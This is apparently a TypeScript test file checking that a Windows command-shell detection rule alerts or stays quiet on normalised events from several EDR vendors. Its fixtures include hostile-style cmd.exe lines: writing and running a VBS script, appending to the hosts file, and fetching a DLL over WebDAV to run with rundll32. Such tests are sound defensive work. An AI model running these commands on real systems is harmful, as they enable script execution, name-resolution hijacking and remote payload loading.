/**
 * The founding rule (Suspicious Windows Command Shell Arguments) over raw vendor events, written
 * from each vendor's field names and the rule's branches: one that must alert and one that must
 * not, per source, after normalisation.
 */
import { describe, expect, it } from 'vitest';
import { compileQuery } from '../../../src/eql/index.js';
import { createEdrNormaliser, type EdrFormat, type EdrNormaliseOptions } from '../../../src/sources/edr/index.js';
import { seedQuery } from './helpers.js';

const rule = compileQuery(seedQuery());

function alerts(format: EdrFormat, raw: Record<string, unknown>, opts: EdrNormaliseOptions = {}): boolean {
  const problems: string[] = [];
  const out = createEdrNormaliser(format, { ...opts, sink: (p) => problems.push(`${p.kind}: ${p.message}`) }).normalise(
    {
      value: structuredClone(raw),
      loc: { file: 'test', line: 1 },
    },
  );
  expect(problems).toEqual([]);
  expect(out).toBeDefined();
  return rule.filter!(out!.doc);
}

/** FDR ProcessRollup2 as the sensor writes it: strings everywhere, NT device path, parent by name only. */
const fdr = (commandLine: string, parent: string): Record<string, unknown> => ({
  event_simpleName: 'ProcessRollup2',
  event_platform: 'Win',
  name: 'ProcessRollup2V19',
  aid: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
  cid: 'c0ffee00c0ffee00c0ffee00c0ffee00',
  id: '5b3e9d2a-0c1f-11ef-8a8e-06c7a3a1b2c3',
  timestamp: '1714640000123',
  TargetProcessId: '412345678901',
  ParentProcessId: '412345678800',
  RawProcessId: '7312',
  ImageFileName: '\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe',
  CommandLine: commandLine,
  ParentBaseFileName: parent,
  UserSid: 'S-1-5-21-1004336348-1177238915-682003330-1001',
  SHA256HashData: 'b99d114b267ffd068c3289199b6df95a9f9e64872d6c2b666d63974bbce75bf2',
  MD5HashData: '0000000000000000000000000000000',
});

describe('founding rule over CrowdStrike FDR', () => {
  const cmd =
    '"C:\\Windows\\system32\\cmd.exe" /c echo CreateObject("WScript.Shell").Run("calc") > %TEMP%\\r.vbs & wscript %TEMP%\\r.vbs';

  it('alerts on a Word-spawned cmd.exe writing and running a script (command-line branch)', () => {
    expect(alerts('crowdstrike-fdr', fdr(cmd, 'WINWORD.EXE'))).toBe(true);
  });

  it('does not alert when the parent is an excluded tool: FDR has no parent executable, the rule falls back to its name', () => {
    // The `?process.parent.executable` exclusion cannot fire (the field is absent); only the
    // `data_stream.dataset == "crowdstrike.fdr"` branch with the parent name excludes it.
    expect(alerts('crowdstrike-fdr', fdr(cmd, 'node.exe'))).toBe(false);
  });
});

/** Defender Event Hub DeviceProcessEvents record (columns typed as Advanced Hunting exports them). */
const defender = (commandLine: string, parent: string): Record<string, unknown> => ({
  time: '2024-05-02T09:15:03.1234567Z',
  tenantId: '0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0',
  operationName: 'Publish',
  category: 'AdvancedHunting-DeviceProcessEvents',
  properties: {
    Timestamp: '2024-05-02T09:15:01.9876543Z',
    DeviceId: '6a1f0c9e2b7d4e8f9a0b1c2d3e4f5a6b7c8d9e0f',
    DeviceName: 'FIN-WS-042.corp.example.com',
    ActionType: 'ProcessCreated',
    FileName: 'cmd.exe',
    FolderPath: 'C:\\Windows\\System32\\cmd.exe',
    ProcessId: 9120,
    ProcessCommandLine: commandLine,
    ProcessCreationTime: '2024-05-02T09:15:01.9870000Z',
    AccountDomain: 'corp',
    AccountName: 'jdoe',
    AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1104',
    InitiatingProcessFileName: parent,
    InitiatingProcessFolderPath: `c:\\windows\\system32\\${parent}`,
    InitiatingProcessId: 8840,
    InitiatingProcessCommandLine: `${parent} "C:\\Users\\jdoe\\Downloads\\invoice.hta"`,
    InitiatingProcessCreationTime: null,
  },
});

describe('founding rule over Defender XDR', () => {
  // No command-line pattern of the rule matches this line: only the args branch (echo + mshta/wscript parent) can.
  const echo = 'CMD.EXE /C ECHO 127.0.0.1 update.example.com >> %WINDIR%\\System32\\drivers\\etc\\hosts';

  it('alerts on mshta spawning cmd with an echo argument — only thanks to the host.os.type enrichment', () => {
    expect(alerts('m365-defender', defender(echo, 'mshta.exe'))).toBe(true);
  });

  it('cannot alert in strict ECS: Elastic never sets host.os.type on DeviceProcessEvents', () => {
    expect(alerts('m365-defender', defender(echo, 'mshta.exe'), { strictEcs: true })).toBe(false);
  });

  it('does not alert on the excluded free-space check (echo … GEQ 1073741824)', () => {
    expect(alerts('m365-defender', defender('cmd.exe /c echo %x% GEQ 1073741824', 'wscript.exe'))).toBe(false);
  });
});

/** Cloud Funnel PROCESSCREATION: flat dotted keys, src = creator, tgt = the new process. */
const s1 = (src: { name: string; cmd: string }, tgt: { name: string; cmd: string }): Record<string, unknown> => ({
  'event.category': 'process',
  'event.type': 'Process Creation',
  'meta.event.name': 'PROCESSCREATION',
  'event.time': 1714641301234,
  'event.id': '01HWXYZABCDEF0123456789_7',
  'agent.uuid': '4f2a7c9e1b3d4f5a6c7e8d9f0a1b2c3d',
  'endpoint.name': 'FIN-WS-042',
  'endpoint.os': 'windows',
  'endpoint.type': 'laptop',
  'src.process.name': src.name,
  'src.process.cmdline': src.cmd,
  'src.process.image.path': `C:\\Windows\\${src.name}`,
  'src.process.pid': 4200,
  'src.process.uid': 'A1B2C3D4E5F60718',
  'src.process.user': 'CORP\\jdoe',
  'tgt.process.name': tgt.name,
  'tgt.process.cmdline': tgt.cmd,
  'tgt.process.image.path': `C:\\Windows\\System32\\${tgt.name}`,
  'tgt.process.pid': 5120,
  'tgt.process.uid': 'B2C3D4E5F6071829',
  'tgt.process.user': 'CORP\\jdoe',
  'tgt.process.startTime': 1714641301200,
});

describe('founding rule over SentinelOne Cloud Funnel', () => {
  const redirect = 'cmd.exe /c echo MsgBox 1 1>C:\\Users\\Public\\a.vbs';

  it('alerts on cmd.exe (tgt) redirecting echo output into a .vbs (args branch, Go-split argv)', () => {
    expect(
      alerts(
        'sentinelone-cloud-funnel',
        s1({ name: 'explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE' }, { name: 'cmd.exe', cmd: redirect }),
      ),
    ).toBe(true);
  });

  it('does not alert when cmd.exe is the creator (src): the new process is tgt, so process.* is conhost', () => {
    expect(
      alerts(
        'sentinelone-cloud-funnel',
        s1(
          { name: 'cmd.exe', cmd: redirect },
          { name: 'conhost.exe', cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1' },
        ),
      ),
    ).toBe(false);
  });
});

/** Native Endgame EQL-schema process event (endgameinc/eql), FILETIME timestamp. */
const endgame = (subtype: string): Record<string, unknown> => ({
  event_type_full: 'process_event',
  event_subtype_full: subtype,
  event_type: 'process',
  opcode: 1,
  serial_event_id: 4211,
  timestamp: 133590154010000000,
  pid: 6012,
  ppid: 3144,
  unique_pid: 4211,
  unique_ppid: 4100,
  process_name: 'cmd.exe',
  process_path: 'C:\\Windows\\System32\\cmd.exe',
  command_line: 'cmd.exe /c copy \\\\fileserver@SSL\\DavWWWRoot\\p.dll %TEMP%\\p.dll && rundll32 %TEMP%\\p.dll,Start',
  parent_process_name: 'explorer.exe',
  parent_process_path: 'C:\\Windows\\explorer.exe',
  user_domain: 'CORP',
  user_name: 'jdoe',
});

describe('founding rule over Endgame', () => {
  it('alerts on explorer → cmd copying from a WebDAV share (copy/&&/UNC args branch)', () => {
    expect(alerts('endgame', endgame('creation_event'))).toBe(true);
  });

  it('does not alert on the same process reported as already running (event.type info, not start)', () => {
    expect(alerts('endgame', endgame('already_running'))).toBe(false);
  });
});
